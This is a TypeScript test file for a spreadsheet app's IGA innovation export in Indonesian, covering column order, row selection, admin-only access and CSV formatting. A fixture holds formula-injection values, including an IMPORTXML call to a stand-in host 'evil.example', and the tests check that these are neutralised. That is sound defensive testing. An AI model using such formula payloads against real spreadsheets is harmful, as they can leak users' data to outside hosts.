// The IGA export on the built bundle in the emulator: the Ekspor IGA tab in the national form's
// order and wording, verified and counted innovations only, text stored inert; and the CSV of the
// same rows (RFC 4180, BOM, formula-like cells neutralised).
import { beforeAll, describe, expect, it } from 'vitest';
import { getRubric } from '../../src/core';
import type { Harness } from '../../src/emulator/harness';
import type { IgaCsv } from '../../src/shared/admin-api';
import type { Result } from '../../src/shared/api';
import { EXPORT_TEXT } from '../../src/shared/messages/export';
import { IGA_FORM_HEADERS, parseCsv } from '../support/iga';
import { completeInnovation, saveAs, values, verify } from './admin-tools';
import { ADMIN, DINKES_OP, DINSOS_OP, directEditor, PROTECTED, setUp } from './support';

type Csv = Result<IgaCsv>;

const HOSTILE = {
  name: '=IMPORTXML("http://evil.example","//a")',
  goal: '+62 811 0000 (hotline)',
  benefit: 'Ibu, balita, dan "lansia"\nterlayani',
  result: '@SUM(A1:A9)',
};

describe('Ekspor IGA', () => {
  let h: Harness;
  const ids: Record<string, string> = {};

  beforeAll(() => {
    h = setUp();
    const a = saveAs(h, DINKES_OP, completeInnovation('DINKES', 'Posyandu Digital'), true);
    verify(h, a, 'verified', { rejected: ['19'] });
    const hostile = saveAs(h, DINKES_OP, { ...completeInnovation('DINKES', HOSTILE.name), ...HOSTILE }, true);
    verify(h, hostile, 'verified');
    const pending = saveAs(h, DINKES_OP, completeInnovation('DINKES', 'Belum Diperiksa'), true);
    const s = saveAs(h, DINSOS_OP, completeInnovation('DINSOS', 'Bansos Tepat Sasaran', 3), true);
    verify(h, s, 'verified');
    Object.assign(ids, { a: a.id, hostile: hostile.id, pending: pending.id, s: s.id });
    h.setUser(ADMIN);
    h.runMenu('showIgaExport');
  });

  it('writes the national form columns in order, then 4 columns per indicator, then helpers', () => {
    const tab = values(h, EXPORT_TEXT.tab);
    const header = tab[1]!;
    expect(header.slice(0, 18)).toEqual(IGA_FORM_HEADERS);
    const rubric = getRubric('iid-2027');
    rubric.sid.indicators.forEach((ind, k) => {
      expect(header.slice(18 + 4 * k, 22 + 4 * k)).toEqual([
        `${ind.id}. ${ind.name}: Parameter`,
        `${ind.id}. Nomor Surat`,
        `${ind.id}. Tanggal Surat`,
        `${ind.id}. Link Bukti Dukung`,
      ]);
    });
    expect(header.slice(18 + 80)).toEqual([
      'Perangkat Daerah (bantu)',
      'ID Inovasi (bantu)',
      'Skor SID Terverifikasi (bantu)',
      'Catatan Ekspor (bantu)',
    ]);
    expect(String(tab[0]![0])).toMatch(/^3 inovasi terverifikasi yang dihitung/);
  });

  it('has one row per verified, counted innovation, in OPD order, with the form wording', () => {
    const tab = values(h, EXPORT_TEXT.tab);
    const rows = tab.slice(2);
    const idCol = tab[1]!.indexOf('ID Inovasi (bantu)');
    // The OPD tab lists DINKES before DINSOS; inside an OPD by name.
    expect(rows.map((r) => r[idCol])).toEqual([ids.hostile, ids.a, ids.s]);
    const a = rows[1]!;
    expect(a.slice(0, 14)).toEqual([
      'Posyandu Digital',
      'Penerapan',
      'Perangkat Daerah (OPD)',
      'dr. Andi',
      'Digital (daring)',
      'Inovasi pelayanan publik',
      getRubric('iid-2027').profile.themes!.find((t) => t.code === 'asta_cita_4')!.label,
      '',
      'Inovasi Perangkat Daerah',
      'Kesehatan',
      'Sosial',
      '2025-01-15',
      '2025-06-01',
      '',
    ]);
    const rubric = getRubric('iid-2027');
    const i16 = tab[1]!.indexOf(`16. ${rubric.sid.indicators[0]!.name}: Parameter`);
    expect(a.slice(i16, i16 + 4)).toEqual([
      rubric.sid.indicators[0]!.parameters[1],
      '800/16/DINKES/2025',
      '2025-03-17',
      'https://drive.google.com/file/d/bukti-16',
    ]);
    // Indicator 19 was rejected by the verifikator: left empty, and the note says why.
    const i19 = tab[1]!.findIndex((x) => String(x).startsWith('19. '));
    expect(a.slice(i19, i19 + 4)).toEqual(['', '', '', '']);
    expect(a.at(-1)).toBe('Indikator 19 ditolak verifikator dan tidak diisikan.');
    expect(a.at(-4)).toBe('Dinas Kesehatan');
    expect(rows[2]!.at(-4)).toBe('Dinas Sosial');
    expect(typeof a.at(-2)).toBe('number');
  });

  it('stores formula-like text as inert text, exactly as typed', () => {
    const sheet = h.spreadsheet.getSheetByName(EXPORT_TEXT.tab)!;
    const range = sheet.getDataRange();
    expect(
      range
        .getFormulas()
        .flat()
        .every((f) => f === ''),
    ).toBe(true);
    const row = range.getValues()[2]!;
    expect(row.slice(0, 1)).toEqual([HOSTILE.name]);
    expect(row.slice(15, 18)).toEqual([HOSTILE.goal, HOSTILE.benefit, HOSTILE.result]);
  });

  it('refreshes the tab instead of appending, and opens the download dialog', () => {
    const before = values(h, EXPORT_TEXT.tab).length;
    h.runMenu('showIgaExport');
    expect(values(h, EXPORT_TEXT.tab).length).toBe(before);
    expect(h.ui.dialogs.at(-1)).toMatchObject({
      title: EXPORT_TEXT.dialogTitle,
      file: 'Ekspor',
      modal: true,
    });
    expect(h.ui.toasts.at(-1)?.message).toBe(EXPORT_TEXT.written(3));
  });

  it('serves the same rows as an RFC 4180 CSV with a BOM, formula-like cells neutralised', () => {
    const r = h.call<Csv>('getIgaCsv', ',');
    if (!r.ok) throw new Error(r.message);
    expect(r.count).toBe(3);
    expect(r.fileName).toMatch(/^ekspor-iga-kabupaten-majene-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(r.csv.startsWith('\uFEFFNama Inovasi,Tahapan Inovasi,')).toBe(true);
    expect(r.csv.endsWith('\r\n')).toBe(true);
    const records = parseCsv(r.csv.slice(1));
    const tab = values(h, EXPORT_TEXT.tab).slice(1);
    expect(records).toHaveLength(tab.length);
    records.forEach((rec, i) => {
      expect(rec).toHaveLength(tab[i]!.length);
      rec.forEach((cell, j) => {
        const shown = tab[i]![j];
        const text = String(shown);
        expect(cell).toBe(/^[=+\-@]/.test(text) ? `'${text}` : text);
      });
    });
    expect(r.csv).toContain(`"'=IMPORTXML(""http://evil.example"",""//a"")"`);
    expect(r.csv).toContain(
      `,'+62 811 0000 (hotline),"Ibu, balita, dan ""lansia""\nterlayani",'@SUM(A1:A9),`,
    );
  });

  it('uses ; and decimal commas for Excel in Indonesian', () => {
    const r = h.call<Csv>('getIgaCsv', ';');
    if (!r.ok) throw new Error(r.message);
    const records = parseCsv(r.csv.slice(1), ';');
    const header = records[0]!;
    const score = records[1]![header.indexOf('Skor SID Terverifikasi (bantu)')]!;
    expect(score).toMatch(/^\d+(,\d+)?$/);
    expect(records[1]![0]).toBe(`'${HOSTILE.name}`);
  });

  it('is for admins only, and the tab cannot be edited by others', () => {
    h.setUser(DINKES_OP);
    expect(h.call<Csv>('getIgaCsv', ',')).toMatchObject({ ok: false });
    const dialogs = h.ui.dialogs.length;
    h.runMenu('showIgaExport');
    expect(h.ui.dialogs.length).toBe(dialogs);
    expect(h.ui.alerts.at(-1)?.message).toMatch(/hanya untuk admin/);
    const edit = directEditor(h);
    edit.setUser(DINKES_OP);
    expect(() => edit.call('directWrite', EXPORT_TEXT.tab, 'A3', 'diubah')).toThrow(PROTECTED);
    h.setUser(ADMIN);
  });
});

describe('Ekspor IGA without verified innovations', () => {
  it('says so and opens no dialog', () => {
    const h = setUp();
    saveAs(h, DINKES_OP, completeInnovation('DINKES', 'Belum Diperiksa'), true);
    h.setUser(ADMIN);
    h.runMenu('showIgaExport');
    expect(h.ui.alerts.at(-1)?.message).toBe(EXPORT_TEXT.nothing);
    expect(h.ui.dialogs).toHaveLength(0);
    expect(values(h, EXPORT_TEXT.tab)[1]!.slice(0, 2)).toEqual(['Nama Inovasi', 'Tahapan Inovasi']);
    const csv = h.call<Csv>('getIgaCsv', ',');
    expect(csv.ok && csv.count).toBe(0);
  });
});
